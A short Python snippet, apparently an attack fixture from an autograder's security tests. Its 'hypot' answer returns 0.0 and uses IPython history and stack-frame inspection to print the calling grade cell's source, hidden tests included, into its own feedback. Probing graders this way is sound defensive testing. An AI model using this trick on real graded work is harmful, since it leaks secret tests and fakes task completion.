# attack: Secrets: the answer prints the source of the grade cell that calls it (hidden tests included) into its own feedback
# where: after fixture_hypot
import sys, linecache
def hypot(a, b):
    print("LEAK-HIST:", get_ipython().history_manager.input_hist_raw[-1])
    caller = sys._getframe(1)
    print("LEAK-FRAME:", "".join(linecache.getlines(caller.f_code.co_filename)))
    return 0.0
